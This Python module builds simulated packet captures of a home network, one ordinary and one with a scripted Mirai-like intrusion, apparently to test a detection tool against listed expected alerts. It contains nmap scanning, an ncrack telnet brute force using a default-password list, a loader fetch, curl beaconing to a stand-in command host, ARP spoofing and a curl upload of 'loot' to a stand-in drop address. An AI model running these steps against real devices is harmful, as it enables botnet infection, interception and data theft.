"""The first look: a small home on an ordinary morning, and the same home later, when somebody is in it."""

import random
import threading
import time

from . import mirai, services
from .behaviour import Alert, Claim, behaviour
from .benign_home import CLOUD, SITES
from .describe import merge
from .habits import Household, asks_for_updates, browses, listens, polls, publishes, resolves, uploads_clips

FAMILY = {
    "hub": (10, "b8:27:eb:3a:10:0a"), "camera-door": (21, "44:19:b6:51:00:15"), "camera-yard": (22, "44:19:b6:51:00:16"),
    "plug-kitchen": (31, "24:0a:c4:90:11:1f"), "thermostat": (33, "18:b4:30:0c:44:21"), "laptop": (51, "3c:a9:f4:12:bb:33"),
}
GUEST = ("guest", 66, "a0:99:9b:3c:66:66")
LOADER, COMMAND_SERVER, DROP = "198.51.100.66", "203.0.113.66", "198.51.100.99"
WORDS = ("123456", "12345", "password", "root", "1234", "camera", "888888", "default", "admin1", "guest", "user", "service", "ubnt",
         "54321", "111111", "666666", "pass", "system", "supervisor", "klv123", "meinsm", "smcadmin", "7ujMko0vizxv", "realtek",
         "00000000", "1111", "1234567890", "tech", "admin")
MQTT = {name: f"{name}-secret" for name in FAMILY}


def longer(words, times):
    """As many words again with an ending or two, the right one (the last) still last."""
    endings = ("", "1", "2026", "!", "123", "01")[:times]
    return (*(f"{word}{ending}" for ending in endings for word in words[:-1]), words[-1])


def build(net):
    for name, (host, mac) in FAMILY.items():
        net.device(name, host, mac, users={"admin": "admin"} if name.startswith("camera") else None)
    services.dns_and_dhcp(net, {**SITES, **CLOUD})
    services.ntp_server(net)
    pages = {f"page{n}.html": 1_500 + 800 * n for n in range(4)} | {f"asset{n}.bin": 300 + 320 * n for n in range(14)}
    services.web(net, "internet", pages | {"firmware.json": 310, "bins/bot.arm7": 48_000, "gate": 64})
    services.mqtt_broker(net, "hub", MQTT)
    for name in ("camera-door", "camera-yard", "plug-kitchen"):
        services.small_web(net, name)
    for name in ("camera-door", "camera-yard"):
        services.telnet(net, name)


def live(net, home):
    """The habits of the family's things, the same in both captures."""
    broker = net.address("hub")
    for name in ("laptop", "camera-door", "camera-yard"):
        services.ntp_client(net, name)
    home.does("hub", listens, broker, MQTT["hub"])
    home.does("plug-kitchen", publishes, broker, MQTT["plug-kitchen"], 10)
    home.does("thermostat", publishes, broker, MQTT["thermostat"], 20)
    home.does("hub", polls, [("http", net.address(name)) for name in ("camera-door", "camera-yard", "plug-kitchen")] +
              [("ping", net.address(name)) for name in FAMILY if name != "hub"], 30)
    home.does("camera-door", uploads_clips, "https://clips.camera.example/upload", (35, 110), (8, 30))
    home.does("camera-yard", uploads_clips, "https://clips.camera.example/upload", (45, 140), (8, 30))
    home.does("laptop", browses, tuple(SITES), (10, 45))
    home.does("laptop", resolves, (*SITES, *CLOUD, "wpad.home.example"), (15, 60))
    for name in ("camera-door", "thermostat"):
        home.does(name, asks_for_updates, "https://updates.vendor.example/firmware.json", 200)


@behaviour(
    "first-look-clean", "benign",
    "Twelve ordinary minutes of a home of seven devices: two cameras send clips to their maker's cloud, a plug and a thermostat "
    "publish to the hub by MQTT, the hub asks everybody every 30 s, a laptop browses. The baseline of the first command.",
    shared_folder="first-look", file="clean.pcap", compress=False, devices=("gateway", *FAMILY),
    tools=("curl", "nginx-light", "mosquitto", "mosquitto-clients", "dnsmasq", "chrony", "busybox", "iputils-ping", "bind9-dnsutils"),
    claims=(
        Claim("devices that speak", "ip.src==192.168.50.0/24 && eth", 7, 7, "eth.src"),
        Claim("clips sent by the two cameras (TLS connections)",
              "tcp.flags==0x2 && ip.dst==203.0.113.40 && (ip.src==192.168.50.21 || ip.src==192.168.50.22)", 8),
        Claim("MQTT publications", "mqtt.msgtype==3", 80),
        Claim("packets to telnet ports", "tcp.port==23 || tcp.port==2323", 0, 0),
    ))
def clean(net, capture, minutes=12):
    build(net)
    tcpdump = capture()
    home = Household(net, minutes * 60, "first-look-1")
    live(net, home)
    home.play()
    net.stop_capture(tcpdump)


@behaviour(
    "first-look-suspicious", "attack",
    "The same home a little later. A guest's device (192.168.50.66) joins, looks at every common port of the camera in the yard "
    "(192.168.50.22), guesses its telnet password and has it fetch a file from 198.51.100.66. From then on the camera asks "
    "203.0.113.66 for orders every ten seconds, looks for other telnet servers in the home and outside and guesses the password of "
    "the camera at the door. The guest puts itself between laptop and router by ARP. In the end the camera sends 8 MB to "
    "198.51.100.99, an address nobody here has talked to. All ordinary habits go on.",
    shared_folder="first-look", file="suspicious.pcap", compress=False, devices=("gateway", *FAMILY, "guest"),
    tools=("nmap", "ncrack", "inetutils-telnetd", "dsniff", "curl", "nginx-light", "mosquitto", "mosquitto-clients", "dnsmasq", "chrony",
           "busybox", "iputils-ping", "bind9-dnsutils"),
    note="Frames of the upload to 198.51.100.99 are cut at 70 bytes, all others are whole.",
    expected=(
        Alert("port-scan", "192.168.50.66", ("192.168.50.22",)),
        Alert("brute-force", "192.168.50.66", ("192.168.50.22",)),
        Alert("beacon", "192.168.50.22", ("203.0.113.66",)),
        Alert("network-scan", "192.168.50.22"),
        Alert("botnet-propagation", "192.168.50.22"),
        Alert("arp-spoofing", "192.168.50.66", ("192.168.50.51", "192.168.50.1")),
        Alert("anomaly", "192.168.50.22", ("198.51.100.99",)),
    ),
    tolerated=(Alert("exfiltration", "192.168.50.22", ("198.51.100.99",)),),
    never=("192.168.50.10", "192.168.50.31", "192.168.50.33"),
    claims=(
        Claim("ports of the camera that the guest tries", "ip.src==192.168.50.66 && ip.dst==192.168.50.22 && tcp.flags==0x2", 990, None,
              "tcp.dstport"),
        Claim("telnet connections of the guest to the camera",
              "ip.src==192.168.50.66 && ip.dst==192.168.50.22 && tcp.dstport==23 && tcp.flags==0x2", 25),
        Claim("requests of the camera to 203.0.113.66", "ip.src==192.168.50.22 && ip.dst==203.0.113.66 && tcp.flags==0x2", 40, 60),
        Claim("addresses whose telnet port the camera tries (those that exist, and those outside)",
              "ip.src==192.168.50.22 && tcp.flags==0x2 && (tcp.dstport==23 || tcp.dstport==2323)", 120, None, "ip.dst"),
        Claim("addresses of the home that the camera asks for by ARP", "arp.opcode==1 && arp.src.proto_ipv4==192.168.50.22", 240, None,
              "arp.dst.proto_ipv4"),
        Claim("telnet connections of the camera to the camera at the door",
              "ip.src==192.168.50.22 && ip.dst==192.168.50.21 && tcp.dstport==23 && tcp.flags==0x2", 5),
        Claim("ARP replies of the guest that claim the router's address",
              "arp.opcode==2 && arp.src.proto_ipv4==192.168.50.1 && eth.src==a0:99:9b:3c:66:66", 20),
        Claim("large segments to 198.51.100.99", "ip.dst==198.51.100.99 && ip.len>1400", 5000),
    ))
def suspicious(net, capture, minutes=11.5):
    build(net)
    net.device(*GUEST)
    tcpdump = capture(expression=f"not host {DROP}")
    upload = net.capture(net.state / "upload.pcap", snaplen=70, expression=f"host {DROP}")
    home = Household(net, minutes * 60, "first-look-2")
    live(net, home)
    story = threading.Thread(target=intrusion, args=(net, home), daemon=True)
    story.start()
    home.play()
    story.join(60)
    net.stop_capture(upload)
    net.stop_capture(tcpdump)
    merge(net.state / "raw.pcap", net.state / "upload.pcap")


def intrusion(net, home):
    yard, door = net.address("camera-yard"), net.address("camera-door")
    begun = time.monotonic()

    def wait_until(second):
        home.sleep(begun + second - time.monotonic())

    wait_until(35)
    net.attack("guest", "nmap", "-n", "-Pn", "-sS", "-T4", yard)
    wait_until(60)
    words = net.state / "words"
    words.write_text("\n".join(longer(WORDS, 3)) + "\n")
    net.attack("guest", "ncrack", "--user", "admin", "-P", words, f"telnet://{yard}", timeout=140)
    wait_until(205)
    in_device(net, "guest", lambda: take_over(net, yard))
    threading.Thread(target=beacon, args=(net, home, "camera-yard", f"http://{COMMAND_SERVER}:80/gate", 10, 0.1), daemon=True).start()
    wait_until(245)
    targets = [f"{net.lan}.{n}" for n in range(1, 255) if f"{net.lan}.{n}" != yard] + [f"203.0.113.{n}" for n in range(130, 250)]
    random.Random("first-look").shuffle(targets)
    net.show("camera-yard", f"(Mirai-like scan of {len(targets)} addresses, 12 a second, then logins: recording/mirai.py)")
    in_device(net, "camera-yard", lambda: spread(net, targets, yard, door))
    wait_until(395)
    net.run("guest", "sysctl", "-qw", "net.ipv4.ip_forward=1", "net.ipv4.conf.all.send_redirects=0", "net.ipv4.conf.eth0.send_redirects=0")
    net.show("guest", "arpspoof", "-i", "eth0", "-t", net.address("laptop"), "-r", net.address("gateway"))
    spoof = net.start("guest", "arpspoof", "-i", "eth0", "-t", net.address("laptop"), "-r", net.address("gateway"))
    wait_until(475)
    spoof.terminate()
    wait_until(510)
    loot = net.state / "loot"
    loot.write_bytes(random.Random("loot").randbytes(8_000_000))
    net.attack("camera-yard", "curl", "-s", "--limit-rate", "300k", "-o", "/dev/null", "-H", "Expect:", "-T", loot, f"http://{DROP}/upload/loot")


def take_over(net, yard):
    net.show("guest", f"(telnet to {yard}, admin/admin; wget of 48 kB from {LOADER}: recording/mirai.py)")
    session = mirai.try_logins(yard, 23, (("admin", "admin"),))
    if session is None or not mirai.load(session, LOADER):
        raise RuntimeError("the camera did not let the guest in")


def spread(net, targets, yard, door):
    open_ports = mirai.scan(yard, targets, 12, "first-look")
    if (door, 23) not in open_ports and (door, 2323) not in open_ports:
        print("the scan did not find the camera at the door by its first port")
    mirai.try_logins(door, 23)


def beacon(net, home, device, url, every, jitter):
    """Asks for orders: a small request every few seconds."""
    chance = random.Random(f"beacon-{device}-{every}-{jitter}")
    net.show(device, f"(every {every} s ± {jitter:.0%}) curl -s {url}")
    while home.sleep(every * chance.uniform(1 - jitter, 1 + jitter)):
        net.run(device, "curl", "-s", "-m", 5, "-o", "/dev/null", "-A", "", url, timeout=8)


def in_device(net, name, work):
    """Runs `work` in a thread that has entered the device, and waits for it."""
    failed = []

    def body():
        try:
            net.enter(name)
            work()
        except (OSError, RuntimeError) as error:
            failed.append(error)

    thread = threading.Thread(target=body)
    thread.start()
    thread.join()
    if failed:
        raise failed[0]
